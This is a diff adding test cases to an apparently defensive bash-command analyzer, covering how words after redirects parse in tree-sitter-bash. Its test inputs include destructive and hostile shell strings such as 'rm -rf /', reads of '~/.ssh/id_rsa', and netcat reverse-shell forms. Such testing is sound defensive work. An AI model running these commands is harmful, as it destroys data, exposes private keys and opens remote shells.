@@ -42,6 +42,14 @@ describe("the simple commands that would run", () => {
     ["time with a group runs the group", "time { rm x; ls; }", ["[time] rm x", "ls"]],
     ["exec naming a descriptor runs nothing", "exec {fd}>file", ["exec {fd}"]],
     ["a heredoc followed by && runs the next command", "cat <<EOF && rm x\nbody\nEOF", ["cat", "rm x"]],
+    // tree-sitter-bash files the words after a redirect's target under the redirect; bash passes them to the command.
+    ["words after a redirect's target are arguments", "rm 2>/dev/null -rf /", ["rm -rf /"]],
+    ["words after a trailing redirect's target are arguments", "cat x > out ~/.ssh/id_rsa", ["cat x ~/.ssh/id_rsa"]],
+    ["words after a redirect of a heredoc command are arguments", "cat <<EOF 2>/dev/null ~/.ssh/id_rsa\nx\nEOF", ["cat ~/.ssh/id_rsa"]],
+    ["words after a redirect in a pipeline stage are arguments", "nc 2>/dev/null -e /bin/sh h 1 | cat", ["nc -e /bin/sh h 1", "cat"]],
+    ["a 0 that a redirect follows is its descriptor, not an argument", "sh 0</tmp/f | nc h 1", ["sh", "nc h 1"]],
+    ["a 0 before a redirect in a list is its descriptor", "true && cat 0</tmp/f x", ["true", "cat x"]],
+    ["a 0 separated from a redirect is an argument", "echo 0 >x", ["echo 0"]],
   ])("%s", (_name, command, expected) => {
     expect(views(analyze(command))).toEqual(expected);
   });
